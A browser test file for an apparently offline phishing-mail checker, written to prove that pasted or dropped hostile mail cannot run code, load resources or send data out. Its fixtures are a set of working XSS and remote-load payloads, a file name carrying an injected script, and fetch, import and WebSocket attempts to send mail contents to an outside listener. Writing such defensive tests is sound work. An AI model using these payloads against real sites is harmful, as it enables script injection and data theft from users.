import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { awake, drop, judge, type Load, paste, unfold } from './support/checker.ts';
import { listenForLeaks, requestsAway, useSite, WITH_WORKER } from './support/index.ts';

const site = useSite();
let foreign: Awaited<ReturnType<typeof listenForLeaks>>;

beforeAll(async () => {
  foreign = await listenForLeaks();
});

beforeEach(() => {
  foreign.hits.length = 0;
});

afterAll(() => foreign?.close());

/** Everything that would load, run, move or submit itself where HTML is rendered. */
const hostileHtml = (away: string) => `<html><head><base href="${away}/base/">
<meta http-equiv="refresh" content="0;url=${away}/refresh"><link rel="stylesheet" href="${away}/css">
<link rel="prefetch" href="${away}/prefetch"><link rel="preconnect" href="${away}/">
<script>globalThis.pwned=1;fetch("${away}/fetch")</script><script src="${away}/js"></script>
<style>@import "${away}/import";body{background:url(${away}/bg)}</style></head>
<body background="${away}/body" onload="pwned=2"><p>Amazonをご利用いただきありがとうございます。24時間以内に更新してください。</p>
<img src="${away}/pixel.gif" srcset="${away}/set 2x" onerror="pwned=3"><img src=x onerror="pwned=4;new Image().src='${away}/x'">
<svg onload="pwned=5"><image href="${away}/svg"/><script>pwned=6</script></svg><math><mtext><img src onerror=pwned=7></math>
<iframe src="${away}/frame"></iframe><iframe srcdoc="<script>parent.pwned=8</script>"></iframe>
<object data="${away}/object"></object><embed src="${away}/embed"><video poster="${away}/poster" src="${away}/video" autoplay></video>
<audio src="${away}/audio" autoplay></audio><details open ontoggle="pwned=9"></details>
<form action="${away}/form"><input autofocus onfocus="pwned=10;this.form.submit()"><input type="image" src="${away}/image"></form>
<a href="${away}/login" ping="${away}/ping">サインイン</a><a href="javascript:pwned=11">情報を更新</a>
<noscript><p title="</noscript><img src=x onerror=pwned=12>"></noscript><textarea></textarea><img src=x onerror=pwned=13>
</body></html>`;

const hostileEml = (away: string) =>
  [
    `From: "Amazon <img src=x onerror=pwned=20>" <info@login.example>`,
    'To: reader@example.com',
    `Subject: Amazon <script>pwned=21</script><img src="${away}/subject">`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    hostileHtml(away),
  ].join('\r\n');

type Hand = (page: Parameters<typeof paste>[0], load: Load) => Promise<void>;
const ways: [string, Hand, (away: string) => Load][] = [
  ['pasted rich', paste, (away) => ({ text: 'Amazon アカウントの更新', html: hostileHtml(away) })],
  ['pasted as source', paste, (away) => ({ text: hostileEml(away), html: '' })],
  ['dropped rich', drop, (away) => ({ text: 'Amazon アカウントの更新', html: hostileHtml(away) })],
  ['dropped as a file', drop, (away) => ({ files: [{ name: 'mail.eml', body: hostileEml(away) }] })],
  [
    'dropped as a page',
    drop,
    (away) => ({ files: [{ name: 'a.html', type: 'text/html', body: hostileHtml(away) }] }),
  ],
  [
    'with a hostile file name',
    drop,
    (away) => ({ files: [{ name: '<img src=x onerror=pwned=30>.eml', body: hostileEml(away) }] }),
  ],
];

test.each(ways)(
  'a hostile mail %s: nothing is requested, nothing runs, nothing moves',
  async (_, give, load) => {
    const { page, requests, close } = await site.open('/check/');
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await awake(page);
    await give(page, load(foreign.origin));
    // A plain paste is the browser's own doing in a made-up event: type it instead.
    const text = load(foreign.origin).text;
    if (text && (await page.inputValue('#checker-mail')) === '') await page.fill('#checker-mail', text);
    expect(await judge(page)).toMatch(/fraud|suspicious|undetermined/);
    await unfold(page.locator('.checker-result details'));
    await page.waitForTimeout(300);

    expect(foreign.hits).toEqual([]);
    expect(requestsAway(requests, site.origin, WITH_WORKER)).toEqual([]);
    expect(await page.evaluate(() => (globalThis as { pwned?: number }).pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(page.url()).toBe(`${site.origin}/check/`);
    const alive = '.checker :is(img, script, iframe, object, embed, video, audio, style, link, meta, base)';
    expect(await page.locator(alive).count()).toBe(0);
    expect(
      await page.locator(`a[href*="${new URL(foreign.origin).host}"], a[href^="javascript:"]`).count(),
    ).toBe(0);
    await close();
  },
);

test('neither the page nor its worker can send anything, even if they were made to', async () => {
  const { page, close } = await site.open('/check/');
  await awake(page);
  await page.fill('#checker-mail', 'Amazon');
  await judge(page);
  const [worker] = page.workers();
  if (!worker) throw new Error('The worker is not running.');

  const attempt = async (away: string) => {
    const tried = async (send: () => unknown) => {
      try {
        await send();
        return 'sent';
      } catch {
        return 'refused';
      }
    };
    const socket = () =>
      new Promise<void>((open, fail) => {
        const opened = new WebSocket(away.replace('http', 'ws'));
        opened.onopen = () => open();
        opened.onerror = () => fail(new Error('refused'));
      });
    return Promise.all([
      tried(() => fetch(`${away}/fetch`, { method: 'POST', body: 'mail', mode: 'no-cors' })),
      tried(() => import(`${away}/module.js?mail`)),
      tried(socket),
    ]);
  };
  const all = ['refused', 'refused', 'refused'];
  expect(await worker.evaluate(attempt, foreign.origin)).toEqual(all);
  expect(await page.evaluate(attempt, foreign.origin)).toEqual(all);
  const own = (url: string) =>
    fetch(url).then(
      () => 'sent',
      () => 'refused',
    );
  expect(await worker.evaluate(own, `${site.origin}/icon.svg`)).toBe('refused');
  expect(foreign.hits).toEqual([]);
  await close();

  // The listener does hear: else the silence above would prove nothing.
  await fetch(`${foreign.origin}/heard`);
  expect(foreign.hits).toEqual(['GET /heard']);
});

test('once ready, it judges in flight mode', async () => {
  const { page, close } = await site.open('/check/');
  await awake(page);
  await page.focus('#checker-mail');
  await page.locator('.checker-ready').waitFor();
  await page.context().setOffline(true);
  await paste(page, { text: 'Amazon 更新', html: hostileHtml(foreign.origin) });
  expect(await judge(page)).toMatch(/fraud|suspicious/);
  await page.getByRole('button', { name: '消す' }).click();
  await drop(page, { files: [{ name: 'mail.eml', body: hostileEml(foreign.origin) }] });
  expect(await judge(page)).toMatch(/fraud|suspicious/);
  // The worker that 「消す」 started anew has the list of known lures as well.
  expect(await page.locator('.checker-result').textContent()).not.toContain('一覧を読み込めなかった');
  await close();
});

test('nothing is kept: not in the browser, not after 「消す」', async () => {
  const { page, close } = await site.open('/check/');
  await awake(page);
  await page.fill('#checker-mail', 'Amazon 合言葉XYZZY アカウントを更新してください');
  await judge(page);
  await page.getByText('登録した名前でも調べる').click();
  await page.fill('#checker-name', '山田太郎');
  await page.keyboard.press('Enter');
  await page.locator('[role=status]', { hasText: '調べ直しました' }).waitFor();
  expect(await page.context().storageState()).toEqual({ cookies: [], origins: [] });
  // The worker holds the mail between the answers; it is ended with all that it holds.
  const [worker] = page.workers();
  const ended = new Promise((done) => worker?.once('close', done));
  await page.getByRole('button', { name: '消す' }).click();
  await ended;
  expect(await page.inputValue('#checker-mail')).toBe('');
  expect(await page.content()).not.toMatch(/XYZZY|山田太郎/);
  expect(await page.evaluate(() => document.activeElement?.id)).toBe('checker-mail');
  await close();
});
